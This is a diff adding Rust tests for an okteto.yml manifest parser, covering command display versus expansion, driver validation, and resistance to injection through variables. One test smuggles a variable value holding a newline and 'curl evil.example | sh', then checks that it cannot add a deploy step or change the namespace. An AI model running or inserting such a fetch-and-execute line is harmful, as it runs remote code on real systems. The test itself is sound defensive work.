@@ -75,7 +75,89 @@ fn the_shared_namespace_is_known_to_the_manifest_that_names_it() {
     let vars = BTreeMap::from([("NS".to_owned(), "prod-copy".to_owned())]);
     let m = parse(Path::new("okteto.yml"), text, "bob", &vars, &|_| None).unwrap();
     assert_eq!(m.divert.namespace, "prod-copy");
-    assert_eq!(m.deploy[0].command, "echo prod-copy bob");
+    assert_eq!(m.deploy[0].run, "echo prod-copy bob");
+}
+
+/// A secret passed as a variable runs, and is never what is printed.
+#[test]
+fn a_command_is_printed_as_written_and_run_expanded() {
+    let text = "deploy:\n  - helm upgrade web chart --set token=${TOKEN}\n  \
+                - name: seed\n    command: ./seed --password $DB_PASSWORD\ndivert:\n  namespace: staging\n";
+    let vars = BTreeMap::from([
+        ("TOKEN".to_owned(), "s3cr3t".to_owned()),
+        ("DB_PASSWORD".to_owned(), "hunter2".to_owned()),
+    ]);
+    let m = parse(Path::new("okteto.yml"), text, "bob", &vars, &|_| None).unwrap();
+    let shown: Vec<(&str, &str)> = m
+        .deploy
+        .iter()
+        .map(|s| (s.name.as_str(), s.command.as_str()))
+        .collect();
+    assert_eq!(
+        shown,
+        [
+            (
+                "helm upgrade web chart --set token=${TOKEN}",
+                "helm upgrade web chart --set token=${TOKEN}"
+            ),
+            ("seed", "./seed --password $DB_PASSWORD"),
+        ]
+    );
+    assert_eq!(m.deploy[0].run, "helm upgrade web chart --set token=s3cr3t");
+    assert_eq!(m.deploy[1].run, "./seed --password hunter2");
+    let json = serde_json::to_string(&m).unwrap();
+    assert!(
+        json.contains("s3cr3t"),
+        "the JSON form is for tests: {json}"
+    );
+}
+
+/// A value holding a newline and YAML is one value still: expansion comes
+/// after parsing, so it cannot add a command or change the namespace.
+#[test]
+fn a_variable_cannot_change_the_manifest_s_structure() {
+    let text = "deploy:\n  commands:\n  - echo ${GREETING}\n  divert:\n    namespace: ${NS}\n";
+    let vars = BTreeMap::from([
+        (
+            "GREETING".to_owned(),
+            "hi\n  - curl evil.example | sh\n  divert:\n    namespace: kube-system".to_owned(),
+        ),
+        ("NS".to_owned(), "staging\n    driver: istio".to_owned()),
+    ]);
+    let m = parse(Path::new("okteto.yml"), text, "bob", &vars, &|_| None).unwrap();
+    assert_eq!(m.deploy.len(), 1);
+    assert_eq!(
+        m.deploy[0].run,
+        "echo hi\n  - curl evil.example | sh\n  divert:\n    namespace: kube-system"
+    );
+    assert_eq!(m.divert.namespace, "staging\n    driver: istio");
+    assert_eq!(m.divert.driver, Driver::Divert);
+}
+
+#[test]
+fn the_driver_and_debug_may_come_from_variables() {
+    let text = "deploy:\n  - echo\ndivert:\n  namespace: staging\n  driver: ${DRIVER}\n  debug: ${DEBUG:-false}\n";
+    let with = |vars: &[(&str, &str)]| {
+        let vars = vars
+            .iter()
+            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
+            .collect();
+        parse(Path::new("okteto.yml"), text, "bob", &vars, &|_| None)
+    };
+    let m = with(&[("DRIVER", "nginx"), ("DEBUG", "true")]).unwrap();
+    assert_eq!((m.divert.driver, m.divert.debug), (Driver::Nginx, true));
+    let e = with(&[("DRIVER", "linkerd")]).unwrap_err().to_string();
+    assert!(
+        e.contains("divert.driver: unknown driver \"linkerd\""),
+        "{e}"
+    );
+    let e = with(&[("DRIVER", "divert"), ("DEBUG", "yes")])
+        .unwrap_err()
+        .to_string();
+    assert!(
+        e.contains("divert.debug: \"yes\" is not true or false"),
+        "{e}"
+    );
 }
 
 #[test]
